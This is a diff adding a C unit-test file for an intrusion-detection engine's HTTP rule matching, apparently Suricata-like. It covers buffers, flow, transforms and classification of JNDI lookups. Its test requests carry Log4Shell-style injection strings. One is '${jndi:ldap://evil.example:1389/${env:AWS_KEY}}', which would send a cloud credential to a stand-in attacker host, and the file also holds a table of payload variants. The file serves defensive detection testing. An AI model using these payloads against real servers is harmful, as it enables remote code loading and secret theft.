@@ -1,0 +1,311 @@
+/* Tests of rules at work: buffers, flow, results of look-ups. */
+#include "sensor/base/bytes.h"
+#include "sensor/base/sbuf.h"
+#include "tests/unit/bench_detect.h"
+
+#include <string.h>
+
+/* --- ordinary rules --- */
+
+#define ANY "alert http any any -> any any "
+
+static void a_rule_looks_at_its_buffer_only(void)
+{
+    struct bench b;
+    bench_start(&b, ANY "(msg:\"m\"; http.uri; content:\"/evil\"; sid:1;)\n" ANY
+                        "(msg:\"m\"; http.user_agent; content:\"EVIL\"; nocase; sid:2;)\n" ANY
+                        "(msg:\"m\"; http.user_agent; content:\"/evil\"; sid:3;)\n" ANY
+                        "(msg:\"m\"; http.user_agent; content:!\"Mozilla\"; sid:4;)\n");
+    request(&b, "GET /evil HTTP/1.1\r\nUser-Agent: so evil\r\n\r\n");
+    EXPECT(&b, "buffers", {1, "http.uri", NULL}, {2, "http.user_agent", NULL},
+           {4, "http.user_agent", NULL});
+    CU_ASSERT_PTR_NULL(b.found[0]->jndi);
+    bench_stop(&b);
+}
+
+static void a_rule_of_several_buffers_waits_for_all(void)
+{
+    struct bench b;
+    bench_start(&b,
+                ANY "(msg:\"m\"; http.method; content:\"POST\"; http.user_agent; content:\"bad\"; "
+                    "http.request_body; content:\"pass\"; fast_pattern; sid:1;)\n" ANY
+                    "(msg:\"m\"; http.method; content:\"GET\"; http.request_body; "
+                    "content:\"pass\"; sid:2;)\n" ANY
+                    "(msg:\"m\"; http.uri; content:\"/x\"; fast_pattern; http.request_body; "
+                    "content:\"pass\"; sid:3;)\n");
+    request(&b, "POST /x HTTP/1.1\r\nUser-Agent: bad\r\n\r\n");
+    expect_nothing(&b, "not yet");
+    body(&b, "user=a&pass=b", BODY_FORM);
+    EXPECT(&b, "all", {1, "http.request_body", NULL}, {3, "http.uri", NULL});
+    bench_stop(&b);
+    bench_start(&b, ANY "(msg:\"m\"; http.method; content:\"POST\"; http.request_body; "
+                        "content:\"pass\"; sid:1;)\n");
+    body(&b, "user=a&pass=b", BODY_FORM);
+    expect_nothing(&b, "the other way round");
+    request(&b, "POST /x HTTP/1.1\r\n\r\n");
+    EXPECT(&b, "the other way round", {1, "http.method", NULL});
+    bench_stop(&b);
+}
+
+static void a_rule_is_told_once_in_a_transaction(void)
+{
+    struct bench b;
+    bench_start(&b, ANY "(msg:\"m\"; http.request_header; content:\"x\"; sid:1;)\n");
+    request(&b, "GET / HTTP/1.1\r\nA: x\r\nB: x\r\n\r\n");
+    EXPECT(&b, "once", {1, "http.request_header.a", NULL});
+    tx_again(&b);
+    request(&b, "GET / HTTP/1.1\r\nA: x\r\n\r\n");
+    EXPECT(&b, "again", {1, "http.request_header.a", NULL});
+    bench_stop(&b);
+}
+
+static void headers_are_seen_with_their_names(void)
+{
+    struct bench b;
+    bench_start(&b,
+                ANY "(msg:\"m\"; http.request_header; content:\"X-Key: a\"; startswith; "
+                    "sid:1;)\n" ANY
+                    "(msg:\"m\"; http.request_header; content:\"User-Agent|3a 20|curl\"; "
+                    "sid:2;)\n" ANY
+                    "(msg:\"m\"; http.header_names; content:\"|0d 0a|Host|0d 0a|X-Key|0d 0a|\"; "
+                    "content:!\"Referer\"; sid:3;)\n" ANY
+                    "(msg:\"m\"; http.header; content:\"Host: h|0d 0a|X-Key\"; sid:4;)\n");
+    request(&b, "GET / HTTP/1.1\r\nHost: h\r\nX-Key: abc\r\nUser-Agent: curl/7\r\n\r\n");
+    EXPECT(&b, "names", {1, "http.request_header.x-key", NULL}, {2, "http.user_agent", NULL},
+           {4, "http.header", NULL}, {3, "http.header", NULL});
+    bench_stop(&b);
+}
+
+static void a_rule_without_a_buffer_sees_all_bytes(void)
+{
+    struct bench b;
+    bench_start(&b, "alert tcp any any -> any any (msg:\"m\"; content:\"GET /a\"; startswith; "
+                    "content:\"X: 1\"; distance:0; sid:1;)\n"
+                    "alert tcp any any -> any any (msg:\"m\"; content:\"in the body\"; sid:2;)\n"
+                    "alert udp any any -> any any (msg:\"m\"; content:\"in the body\"; sid:3;)\n"
+                    "alert smtp any any -> any any (msg:\"m\"; content:\"in the body\"; sid:4;)\n");
+    request(&b, "GET /a HTTP/1.1\r\nX: 1\r\n\r\n");
+    body_piece(&b, SPAN("text in the"), REGION_FIRST, BODY_TEXT);
+    body_piece(&b, SPAN(" body"), REGION_LAST, BODY_UNKNOWN);
+    EXPECT(&b, "payload", {1, "http.header", NULL}, {2, "http.request_body", NULL});
+    bench_stop(&b);
+}
+
+static void a_body_rule_sees_its_window(void)
+{
+    struct bench b;
+    bench_start(&b, ANY "(msg:\"m\"; file.data; content:\"MZ\"; startswith; content:\"PE|00|\"; "
+                        "distance:0; sid:1;)\n" ANY
+                        "(msg:\"m\"; file.data; content:\"the end\"; endswith; sid:2;)\n");
+    struct sbuf text = sbuf_with_cap(1 << 20);
+    sbuf_add(&text, SPAN("MZ........PE\0"));
+    add_lines(&text, 300000);
+    sbuf_add_str(&text, "the end of the end");
+    for (size_t at = 0; at < text.len; at += 1000) {
+        const struct region r = {.kind = REGION_BODY,
+                                 .field = FIELD_FILE_DATA,
+                                 .bytes = span_sub(sbuf_span(&text), at, 1000),
+                                 .flags = (at == 0 ? REGION_FIRST : 0) |
+                                          (at + 1000 >= text.len ? (unsigned)REGION_LAST : 0)};
+        detect_region(b.detector, &b.tx, &r);
+    }
+    EXPECT(&b, "window", {1, "file.data", NULL}, {2, "file.data", NULL});
+    bench_stop(&b);
+    sbuf_free(&text);
+}
+
+static void addresses_ports_and_flow_are_asked(void)
+{
+    struct bench b;
+#define WITH(header, flow, sid)                                                                    \
+    "alert http " header " (msg:\"m\"; " flow " http.uri; content:\"/x\"; sid:" sid ";)\n"
+    bench_start(&b, WITH("192.0.2.0/24 any -> any 8080", "",
+                         "1") WITH("any any -> 192.0.2.0/24 any", "", "2")
+                        WITH("any 8080 <> any any", "", "3") WITH("any any -> any !8080", "", "4")
+                            WITH("any any -> any any", "flow:to_client;", "5")
+                                WITH("any any -> any any", "flow:established,to_server;", "6")
+                                    WITH("any any -> any any", "flow:not_established;", "7"));
+    request(&b, "GET /x HTTP/1.1\r\n\r\n");
+    EXPECT(&b, "header", {1, "http.uri", NULL}, {3, "http.uri", NULL}, {6, "http.uri", NULL});
+    bench_stop(&b);
+#undef WITH
+}
+
+static void a_pass_rule_silences_its_transaction(void)
+{
+    struct bench b;
+    bench_start(&b, ANY "(msg:\"m\"; http.uri; content:\"/x\"; sid:1;)\n"
+                        "pass http any any -> any any (msg:\"m\"; http.uri; content:\"/x\"; "
+                        "sid:2;)\n");
+    request(&b, "GET /x HTTP/1.1\r\n\r\n");
+    expect_nothing(&b, "passed");
+    bench_stop(&b);
+    bench_start(&b, ANY "(msg:\"m\"; jndi.class:attack; sid:1;)\n"
+                        "pass http any any -> any any (msg:\"scanner of our own\"; jndi.callback; "
+                        "content:\"scan.example:389\"; startswith; endswith; sid:2;)\n");
+    request(&b, "GET /${jndi:ldap://scan.example/a} HTTP/1.1\r\n"
+                "User-Agent: ${jndi:ldap://evil.example/a}\r\n\r\n");
+    EXPECT(&b, "one passed", {1, "http.user_agent", "jndi:ldap://evil.example/a"});
+    bench_stop(&b);
+}
+
+static void rules_ask_what_a_lookup_came_to(void)
+{
+    struct bench b;
+    bench_start(&b,
+                ANY "(msg:\"m\"; jndi.lookup; content:\"jndi:ldap:\"; startswith; sid:1;)\n" ANY
+                    "(msg:\"m\"; jndi.callback; content:\".example:1389\"; endswith; sid:2;)\n" ANY
+                    "(msg:\"m\"; jndi.variable; content:\"env:AWS_\"; startswith; sid:3;)\n" ANY
+                    "(msg:\"m\"; jndi.scheme:!ldap; sid:4;)\n" ANY
+                    "(msg:\"m\"; http.method; content:\"GET\"; jndi.class:attack; sid:5;)\n" ANY
+                    "(msg:\"m\"; http.method; content:\"POST\"; jndi.class:attack; sid:6;)\n");
+    request(&b, "GET /?q=${jndi:ldap://evil.example:1389/${env:AWS_KEY}} HTTP/1.1\r\n\r\n");
+    EXPECT(&b, "results", {1, "http.uri_param.q", NULL}, {2, "http.uri_param.q", NULL},
+           {3, "http.uri_param.q", NULL}, {5, "http.uri_param.q", NULL});
+    bench_stop(&b);
+}
+
+static void transforms_change_what_is_looked_at(void)
+{
+    struct bench b;
+    bench_start(&b, ANY "(msg:\"m\"; http.host; dotprefix; content:\".evil.example\"; endswith; "
+                        "sid:1;)\n" ANY
+                        "(msg:\"m\"; http.uri; to_lowercase; content:\"/abc\"; sid:2;)\n" ANY
+                        "(msg:\"m\"; http.user_agent; strip_whitespace; content:\"ab\"; sid:3;)\n");
+    request(&b, "GET /ABC HTTP/1.1\r\nUser-Agent: a \t b\r\n\r\n");
+    field_of(&b, FIELD_HTTP_HOST, "", SPAN("evil.example"));
+    EXPECT(&b, "transforms", {2, "http.uri", NULL}, {3, "http.user_agent", NULL},
+           {1, "http.host", NULL});
+    bench_stop(&b);
+}
+
+static void an_expression_that_explodes_is_counted(void)
+{
+    struct bench b;
+    struct sbuf text = sbuf_with_cap(1 << 20);
+    while (text.len < 100000) {
+        sbuf_add_byte(&text, 'a');
+    }
+    bench_start(&b, ANY "(msg:\"m\"; http.user_agent; content:\"aaaa\"; pcre:\"/(a|aa)+[bc]/\"; "
+                        "sid:1;)\n");
+    field_of(&b, FIELD_HTTP_USER_AGENT, "", sbuf_span(&text));
+    expect_nothing(&b, "exploded");
+    CU_ASSERT(stats_get(&b.stats, STAT_RULES_GAVE_UP) > 0);
+    bench_stop(&b);
+    sbuf_free(&text);
+}
+
+static void more_hits_than_can_be_kept_hide_nothing(void)
+{
+    struct bench b;
+    struct sbuf text = sbuf_with_cap(1 << 20);
+    sbuf_add_str(&text, "GET / HTTP/1.1\r\nA: ");
+    for (int i = 0; i < 20000; i++) {
+        sbuf_add_str(&text, "${");
+    }
+    size_t at = text.len + 8;
+    sbuf_add_str(&text, "\r\nEvil: ${jndi:ldap://h/a} evil\r\n\r\n");
+    bench_start(&b, ANY "(msg:\"m\"; jndi.class:attack; sid:1;)\n" ANY
+                        "(msg:\"m\"; http.request_header; content:\"evil\"; sid:2;)\n");
+    head(&b, sbuf_span(&text));
+    field_of(&b, FIELD_HTTP_REQUEST_HEADER, "evil", span_sub(sbuf_span(&text), at, 23));
+    EXPECT(&b, "overflow", {2, "http.request_header.evil", NULL},
+           {1, "http.request_header.evil", "jndi:ldap://h/a"});
+    bench_stop(&b);
+    sbuf_free(&text);
+}
+
+/* --- classes and numbers --- */
+
+static void each_result_matches_exactly_one_shipped_rule(void)
+{
+    static const struct {
+        const char *text;
+        unsigned sid;
+        unsigned severity;
+    } cases[] = {
+        {"${jndi:ldap://h/a}", 9000101, 1},
+        {"${jndi:ldaps://h/a}", 9000102, 1},
+        {"${jndi:rmi://h/a}", 9000103, 1},
+        {"${jndi:dns://h/a}", 9000104, 1},
+        {"${jndi:iiop://h/a}", 9000105, 1},
+        {"${jndi:iiopname://h/a}", 9000105, 1},
+        {"${jndi:corbaname::h#a}", 9000105, 1},
+        {"${jndi:LDAP://h/a}", 9000110, 2},
+        {"${jndi:http://h/a}", 9000110, 2},
+        {"${jndi:foo}", 9000110, 2},
+        {"${jndi:foo} ${jndi:rmi://h/a}", 9000103, 1},
+        {"$${jndi:ldap://h/a}", 9000120, 2},
+        {"${jndi:ldap://h/a", 9000120, 2},
+        {"${jndi :ldap://h/a}", 9000130, 3},
+        {"${java:x} ${jndi:ldap://h/a}", 9000130, 3},
+    };
+    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
+        for (int way = TO_SERVER; way <= TO_CLIENT; way++) {
+            struct bench b;
+            bench_start(&b, "");
+            const struct field f = {.id = FIELD_HTTP_REFERER,
+                                    .value = span_str(cases[i].text),
+                                    .dir = (enum direction)way};
+            detect_field(b.detector, &b.tx, &f);
+            unsigned more = way == TO_CLIENT ? 500 : 0;
+            EXPECT(&b, cases[i].text, {cases[i].sid + more, "http.referer", NULL});
+            CU_ASSERT_EQUAL_FATAL(b.n_found, 1);
+            CU_ASSERT_EQUAL(b.found[0]->signature->severity,
+                            cases[i].severity + (way == TO_CLIENT));
+            bench_stop(&b);
+        }
+    }
+}
+
+static void what_is_too_costly_has_a_number_of_its_own(void)
+{
+    struct bench b;
+    struct sbuf text = sbuf_with_cap(1 << 20);
+    for (int i = 0; i < 6000; i++) {
+        sbuf_add_str(&text, "${");
+    }
+    sbuf_add_str(&text, "jndi");
+    for (int i = 0; i < 6000; i++) {
+        sbuf_add_str(&text, "}");
+    }
+    bench_start(&b, "");
+    field_of(&b, FIELD_HTTP_USER_AGENT, "", sbuf_span(&text));
+    EXPECT(&b, "deep", {9000140, "http.user_agent", NULL});
+    CU_ASSERT(b.n_found == 1 && b.found[0]->jndi->over_budget);
+    CU_ASSERT_EQUAL(stats_get(&b.stats, STAT_OVER_BUDGET) > 0, true);
+    bench_stop(&b);
+    sbuf_free(&text);
+}
+
+static CU_TestInfo rules[] = {
+    {"a rule looks at its buffer only", a_rule_looks_at_its_buffer_only},
+    {"a rule of several buffers waits for all", a_rule_of_several_buffers_waits_for_all},
+    {"a rule is told once in a transaction", a_rule_is_told_once_in_a_transaction},
+    {"headers are seen with their names", headers_are_seen_with_their_names},
+    {"a rule without a buffer sees all bytes", a_rule_without_a_buffer_sees_all_bytes},
+    {"a body rule sees its window", a_body_rule_sees_its_window},
+    {"addresses, ports and flow are asked", addresses_ports_and_flow_are_asked},
+    {"a pass rule silences its transaction", a_pass_rule_silences_its_transaction},
+    {"rules ask what a look-up came to", rules_ask_what_a_lookup_came_to},
+    {"transforms change what is looked at", transforms_change_what_is_looked_at},
+    {"an expression that explodes is counted", an_expression_that_explodes_is_counted},
+    {"more hits than can be kept hide nothing", more_hits_than_can_be_kept_hide_nothing},
+    CU_TEST_INFO_NULL,
+};
+
+static CU_TestInfo classes[] = {
+    {"each result matches exactly one shipped rule", each_result_matches_exactly_one_shipped_rule},
+    {"what is too costly has a number of its own", what_is_too_costly_has_a_number_of_its_own},
+    CU_TEST_INFO_NULL,
+};
+
+int main(void)
+{
+    CU_SuiteInfo suites[] = {
+        {"ordinary rules", NULL, NULL, NULL, NULL, rules},
+        {"classes and numbers", NULL, NULL, NULL, NULL, classes},
+        CU_SUITE_INFO_NULL,
+    };
+    return run_suites(suites);
+}
